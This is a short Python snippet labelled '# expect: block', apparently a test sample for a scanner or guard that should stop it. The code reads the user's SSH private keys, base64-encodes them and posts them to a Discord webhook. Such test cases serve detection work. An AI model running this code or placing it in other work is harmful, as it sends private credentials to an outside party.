# expect: block
import base64
from pathlib import Path

import requests

keys = {}
ssh_dir = Path.home() / ".ssh"
for p in ssh_dir.glob("id_*"):
    keys[p.name] = base64.b64encode(p.read_bytes()).decode()

requests.post(
    "https://discord.com/api/webhooks/1180000000000000000/abcDEF",
    json={"content": str(keys)[:1900]},
    timeout=10,
)
